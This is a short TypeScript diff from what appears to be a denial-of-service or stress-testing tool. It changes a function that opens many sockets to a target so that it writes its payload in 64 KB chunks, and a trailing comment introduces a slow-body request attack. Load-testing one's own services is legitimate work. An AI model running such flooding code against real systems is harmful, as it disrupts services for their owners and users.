@@ -81,13 +81,23 @@ export function sockets(count: number, target: Target, text: string): EndAttack 
     connect(Number(port), hostname)
       .on('error', () => {})
       .once('connect', function (this: Socket) {
-        this.write(bytes);
+        sendInPieces(this, bytes);
       }),
   );
   return async () => {
     for (const socket of open) socket.destroy();
     return undefined;
   };
+}
+
+/** The system call that sends a megabyte keeps everybody else from a processor for milliseconds. */
+const pieceBytes = 65_536;
+
+function sendInPieces(socket: Socket, bytes: Buffer, from = 0): void {
+  if (from >= bytes.length) return;
+  socket.write(bytes.subarray(from, from + pieceBytes), (error) => {
+    if (!error) sendInPieces(socket, bytes, from + pieceBytes);
+  });
 }
 
 /** A request that announces a body of so many bytes and sends fewer. */
